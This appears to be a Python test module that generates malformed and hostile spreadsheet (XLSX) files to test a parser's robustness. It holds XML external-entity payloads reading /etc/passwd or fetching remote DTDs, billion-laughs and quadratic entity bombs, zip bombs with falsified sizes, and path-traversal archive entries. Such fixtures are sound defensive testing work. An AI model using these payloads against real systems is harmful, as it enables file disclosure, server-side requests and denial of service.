"""Hostile books of the spreadsheet kind: their makers, and those whose container or document types are odd."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Callable, Iterator, Mapping
from functools import partial

Make = Callable[[], bytes]
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATED = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
SHEET, BOOK, STRINGS, STYLES = "xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/sharedStrings.xml", "xl/styles.xml"
RELS, INNER = "_rels/.rels", "xl/_rels/workbook.xml.rels"
CELL = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'


def sheet(rows: str, after: str = "", before: str = "") -> str:
    return f"<worksheet {MAIN}>{before}<sheetData>{rows}</sheetData>{after}</worksheet>"


def related(*targets: tuple[str, str, str], more: str = "") -> str:
    each = "".join(
        f'<Relationship Id="{key}" Type="{OFFICE}/{kind}" Target="{to}"{more}/>' for key, kind, to in targets
    )
    return f"<Relationships {RELATED}>{each}</Relationships>"


def book(sheets: str = '<sheet name="报名" sheetId="1" r:id="r1"/>', more: str = "") -> str:
    return f'<workbook {MAIN} xmlns:r="{OFFICE}">{more}<sheets>{sheets}</sheets></workbook>'


PARTS: dict[str, str | bytes] = {
    RELS: related(("r1", "officeDocument", BOOK)),
    BOOK: book(),
    INNER: related(
        ("r1", "worksheet", "worksheets/sheet1.xml"),
        ("r2", "sharedStrings", "sharedStrings.xml"),
        ("r3", "styles", "styles.xml"),
    ),
    STRINGS: f"<sst {MAIN}><si><t>书法班</t></si></sst>",
    STYLES: f'<styleSheet {MAIN}><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>',
    SHEET: sheet(CELL),
}


def packed(
    parts: Mapping[str, str | bytes | None] | None = None, method: int = zipfile.ZIP_DEFLATED, level: int = 1
) -> bytes:
    """A book with some parts of its own; None leaves one out."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method, compresslevel=level) as archive:
        for name, text in (PARTS | dict(parts or {})).items():
            if text is not None:
                archive.writestr(name, text)
    return file.getvalue()


def with_rows(rows: str, after: str = "", before: str = "") -> bytes:
    return packed({SHEET: sheet(rows, after, before)})


def with_cell(attributes: str, inner: str) -> bytes:
    return with_rows(f'<row r="1"><c r="A1" {attributes}>{inner}</c></row>')


def flipped(seed: int, method: int) -> bytes:
    data = bytearray(packed(method=method))
    rng = random.Random(seed)
    for _ in range(1 + seed % 4):
        data[rng.randrange(len(data))] = rng.randrange(256)
    return bytes(data)


def lying(size: int) -> bytes:
    """What its directory says of the sheet's size is not so."""
    data = packed({SHEET: sheet(CELL + " " * 120_000_000)})
    place = data.rindex(b"PK\x01\x02", 0, data.rindex(SHEET.encode()))
    return data[: place + 24] + struct.pack("<I", size) + data[place + 28 :]


def locked() -> bytes:
    data = bytearray(packed())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(mark)
        while place >= 0:
            data[place + at] |= 1
            place = data.find(mark, place + 4)
    return bytes(data)


def many_parts(count: int) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for number in range(count):
            archive.writestr(f"{number}", b"")
    return file.getvalue()


def twice() -> bytes:
    file = io.BytesIO(packed())
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr(SHEET.upper(), sheet(""))
    return file.getvalue()


DOCTYPES = {
    "laughs": "<!DOCTYPE a [<!ENTITY a 'ha'>" + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9)) + "]>",
    "file": "<!DOCTYPE a [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>",
    "net": "<!DOCTYPE a SYSTEM 'http://203.0.113.1/a.dtd'>",
    "parameter": "<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://203.0.113.1/p'> %p;]>",
    "quadratic": f"<!DOCTYPE a [<!ENTITY a '{'a' * 100_000}'>]>",
}  # fmt: skip


def doctypes() -> Iterator[tuple[str, Make]]:
    for name, doctype in DOCTYPES.items():
        for part, text in PARTS.items():
            yield f"{name} in {part}", partial(packed, {part: f"<?xml version='1.0'?>{doctype}{text}"})
        used = sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>&a;&j;</t></is></c></row>')
        yield f"{name} used", partial(packed, {SHEET: doctype + used})


def containers() -> Iterator[tuple[str, Make]]:
    whole = packed()
    for tenth in range(10):
        yield f"cut at {tenth}/10", partial(whole.__getitem__, slice(0, len(whole) * tenth // 10))
    for seed in range(16):
        yield f"deflated flipped {seed}", partial(flipped, seed, zipfile.ZIP_DEFLATED)
        yield f"stored flipped {seed}", partial(flipped, seed, zipfile.ZIP_STORED)
    for name, text in PARTS.items():
        yield f"without {name}", partial(packed, {name: None})
        yield f"empty {name}", partial(packed, {name: ""})
        yield f"torn {name}", partial(packed, {name: text[:-9]})
        yield f"utf-16 {name}", partial(packed, {name: str(text).encode("utf-16")})
        yield (
            f"gbk said {name}",
            partial(packed, {name: f"<?xml version='1.0' encoding='gbk'?>{text}".encode("gbk")}),
        )
    yield "bzip2", partial(packed, method=zipfile.ZIP_BZIP2)
    yield "lzma", partial(packed, method=zipfile.ZIP_LZMA)
    yield "locked", locked
    yield "5,000 parts", partial(many_parts, 5_000)
    yield "70,000 parts", partial(many_parts, 70_000)
    yield "the same part twice", twice
    yield "a zip in a zip", partial(packed, {SHEET: whole})
    yield "a part above the root", partial(packed, {"../../../etc/passwd": "x", "/etc/passwd": "x", "a\\..\\b": "x"})
    yield "junk before", lambda: b"PK" + b"\0" * 999 + whole
    yield "junk behind", lambda: whole + b"\0" * 999
    yield "120 MB told as 9 KB", partial(lying, 9_000)
    yield "9 KB told as 4 GB", partial(lying, 0xFFFFFFFE)
    yield "21 MB of noise", lambda: b"PK" + random.Random(1).randbytes(21 << 20)
